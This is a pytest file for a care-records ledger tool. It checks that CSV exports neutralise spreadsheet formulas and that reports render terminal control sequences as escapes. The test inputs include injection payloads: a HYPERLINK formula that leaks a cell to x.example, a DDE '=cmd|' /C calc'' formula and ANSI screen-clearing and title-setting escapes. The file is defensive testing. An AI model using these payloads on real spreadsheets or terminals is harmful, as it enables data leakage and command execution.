"""What a record says is shown, never obeyed: by a terminal or by a spreadsheet.

- A table (history, plan, drift...) and an error show every control character but the
  newline as its escape: ESC [ 31 m in a reason does not recolour the reader's terminal, a
  CR does not rewrite the line, U+009B (a terminal's one-character ESC [) is shown too. So do
  the court chronology's Markdown and JSON; JSON escapes C0 itself, and DEL and C1 here.
- A CSV for people (the chronology, the drift report, an import's refused rows) shows a
  cell beginning `=`, `+`, `-`, `@`, a tab or a CR as text: it gets a leading `'` (OWASP).
  The chronology's stamp says which version of the forms it is in, so `verify-export`
  renders it again in that version: a CSV made before cells were quoted still verifies.

Children: NR-0202 Shannon of the demo (after NAIRO's case 4), whose new IRO's name and
the record's source reference were typed by someone who meant harm.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from careledger.cli.render import render
from careledger.projections.chronology import FIRST_FORMAT, Chronology, Row, content_digest
from careledger.projections.chronology_forms import render as render_chronology
from careledger.projections.safe_text import FORMULA_START
from tests.returns903 import YEAR, episode, header, write_return
from tests.test_import_903_restatements import import_903
from tests.test_input_boundary import store_below_the_boundary
from tests.test_integrity import COUNCIL, FIRST, invoke, ok, record_two_children

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"see the plan")'
IRO_NAME = "-2+3"
ESCAPES = "\x1b[31mred\x1b[0m, \x9b2J cleared, \rrewritten\x7f"
SHOWN = "\\x1b[31mred\\x1b[0m, \\x9b2J cleared, \\x0drewritten\\x7f"
RAW = ("\x1b", "\x9b", "\r", "\x7f")


@pytest.fixture
def ledger(sqlite_db: str, tmp_path: Path) -> str:
    """Two children of the demo, and an IRO allocation whose name and source are formulas."""
    record_two_children(sqlite_db, tmp_path)
    ok(
        invoke(
            "record", "--db", sqlite_db, "--type", "IROAllocated", "--council", COUNCIL,
            "--child", FIRST, "--set", "occurred_on=2025-06-02", "--set", f"source={HYPERLINK}",
            "--set", "iro_id=IRO-9", "--set", f"iro_name={IRO_NAME}",
        )
    )  # fmt: skip
    return sqlite_db


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def no_formula(cells: list[str]) -> None:
    assert cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_a_chronology_csv_shows_a_formula_as_text_and_still_verifies(
    ledger: str, tmp_path: Path
) -> None:
    out = tmp_path / "chronology.csv"
    ok(invoke("chronology", "--db", ledger, f"{COUNCIL}:{FIRST}", "--format", "csv", "--out", out))

    cells = cells_of(out.read_text(encoding="utf-8"))
    no_formula(cells)
    assert "'" + HYPERLINK in cells
    assert f"IRO allocated: {IRO_NAME}" in cells
    assert cells[-1].startswith("careledger-chronology/3 ")
    verified = ok(invoke("verify-export", "--db", ledger, out))
    assert verified.stdout.splitlines()[:3] == [
        "MATCHES the ledger",
        "same events: the 19 events it covers are in the ledger as they were recorded",
        "unedited: the CSV file is exactly what the ledger gives for them",
    ]


def test_a_chronology_csv_made_before_cells_were_quoted_still_verifies(
    ledger: str, tmp_path: Path
) -> None:
    """The first version's CSV, written here from the JSON form as that version wrote it:
    every value as it is, lists joined with " | ", and its stamp naming version 1."""
    exported = tmp_path / "chronology.json"
    form = ("--format", "json", "--out", exported)
    ok(invoke("chronology", "--db", ledger, f"{COUNCIL}:{FIRST}", *form))
    data = json.loads(exported.read_text(encoding="utf-8"))
    old = io.StringIO()
    writer = csv.writer(old, lineterminator="\n")
    writer.writerow(data["rows"][0])
    for row in data["rows"]:
        writer.writerow(
            " | ".join(v) if isinstance(v, list) else ("" if v is None else v) for v in row.values()
        )
    first_digest = content_digest([Row(**row) for row in data["rows"]], FIRST_FORMAT)
    stamp = data["stamp"].replace(data["format"] + " ", FIRST_FORMAT + " ")
    writer.writerow([stamp.replace(data["content_digest"], first_digest)])
    first_version = tmp_path / "made-before.csv"
    first_version.write_text(old.getvalue(), encoding="utf-8")
    assert HYPERLINK in cells_of(old.getvalue())

    verified = ok(invoke("verify-export", "--db", ledger, first_version))
    assert verified.stdout.startswith("MATCHES the ledger\n")


def test_an_edited_quoted_csv_is_found_edited_at_the_row_edited(
    ledger: str, tmp_path: Path
) -> None:
    """The last row is edited: the quoted rows before it read back as the ledger has them."""
    out = tmp_path / "chronology.csv"
    ok(invoke("chronology", "--db", ledger, f"{COUNCIL}:{FIRST}", "--format", "csv", "--out", out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    last = rows[-2]
    assert int(last[0]) > rows.index(next(r for r in rows if "'" + HYPERLINK in r))
    last[4] += " (and the child agreed)"
    edited = io.StringIO()
    csv.writer(edited, lineterminator="\n").writerows(rows)
    out.write_text(edited.getvalue(), encoding="utf-8")

    result = invoke("verify-export", "--db", ledger, out)

    assert result.exit_code == 3  # verification failed
    found = [line for line in result.stdout.splitlines() if "edited" in line]
    assert found == [f"DIFFERENT: the file's rows were edited (first at row {last[0]})"]


def test_the_drift_csv_shows_an_iros_name_that_is_a_formula_as_text(ledger: str) -> None:
    result = ok(invoke("drift", "--db", ledger, "--group-by", "iro", "--format", "csv"))
    cells = cells_of(result.stdout)
    no_formula(cells)
    assert "'" + IRO_NAME in cells


def test_an_imports_refused_rows_report_shows_a_formula_as_text(
    sqlite_db: str, tmp_path: Path
) -> None:
    ok(invoke("init", "--db", sqlite_db))
    child = "=cmd|' /C calc'!A0"
    directory = write_return(
        tmp_path / "r", [header("F1"), header(child)],
        [episode("F1", "01/05/2019", "S"), episode(child, "2019-05-01", "S")],
    )  # fmt: skip
    report = tmp_path / "refused.csv"
    ok(import_903(sqlite_db, directory, YEAR, "--accept-partial", "--report", report))

    rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
    # its Header and Episodes rows: a CHILD that is no child's id is refused, shown as text
    assert [row["child"] for row in rows] == ["'" + child] * 2
    no_formula([cell for row in rows for cell in row.values()])


def test_a_table_shows_control_characters_as_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    """A history row as `history` gives it, its reason carrying terminal sequences."""
    row = {"no": 7, "date": "2025-03-10", "what": f"placement ended: {ESCAPES}", "by": "TM"}
    render([row], "table", f"History of {COUNCIL}:\x1b]0;owned\x07")
    shown = capsys.readouterr().out
    assert not [c for c in (*RAW, "\x07") if c in shown]
    assert "\\x1b]0;owned\\x07" in shown
    assert "\\x1b[31mred" in shown.replace("\n", "").replace("│", "").replace(" ", "")


def test_an_error_shows_control_characters_as_escapes(ledger: str) -> None:
    result = invoke("history", "--db", ledger, f"{COUNCIL}:NR-\x1b[2J")
    assert result.exit_code == 1
    assert result.stderr == (f"error: no case for child 'NR-\\x1b[2J' of council '{COUNCIL}'\n")


def test_the_drift_report_in_html_shows_control_characters_as_escapes(
    ledger: str, tmp_path: Path
) -> None:
    """An IRO's name with a terminal's sequences in it, held by a ledger recorded before
    such input was refused, and the report printed."""
    store_below_the_boundary(
        ledger,
        FIRST,
        COUNCIL,
        source="LCS/2",
        iro_id="IRO-10",
        iro_name=f"Helen {ESCAPES}",
        occurred_on=date(2025, 7, 1),
    )
    shown = ok(invoke("drift", "--db", ledger, "--group-by", "iro", "--format", "html")).stdout
    assert not [c for c in RAW if c in shown]
    assert "Helen \\x1b[31mred" in shown


def test_a_chronology_shows_control_characters_as_escapes_from_version_two_on() -> None:
    row = Row(
        number=1, date="2025-03-10", event=2, kind="PlacementEnded", what=ESCAPES,
        decided_by="\x9bA. Khan", authority=None, challenge=None, flags=[], source="LCS/1",
        recorded="2025-03-11 by sw-1 (SW)", corrections=[], event_hash="ab" * 32,
    )  # fmt: skip
    made = Chronology(
        child=f"{COUNCIL}:{FIRST}", case_id="cd" * 16, period_from=None, period_to=None,
        produced_at="2026-01-30T10:00:00+00:00", produced_by="court", events=2,
        head_digest="ab" * 32, rows=[row],
    )  # fmt: skip
    markdown = render_chronology(made, "md").decode()
    assert not [c for c in RAW if c in markdown]
    assert SHOWN.replace("\\", "\\\\") in markdown  # Markdown doubles a backslash
    as_json = render_chronology(made, "json").decode()
    assert not [c for c in RAW if c in as_json]
    assert json.loads(as_json)["rows"][0]["what"] == ESCAPES  # read back as recorded
    html = render_chronology(made, "html").decode()
    assert not [c for c in RAW if c in html]
    assert SHOWN in html
    first = replace(made, format="careledger-chronology/1")
    assert ESCAPES in render_chronology(first, "md").decode()  # as version 1 wrote it
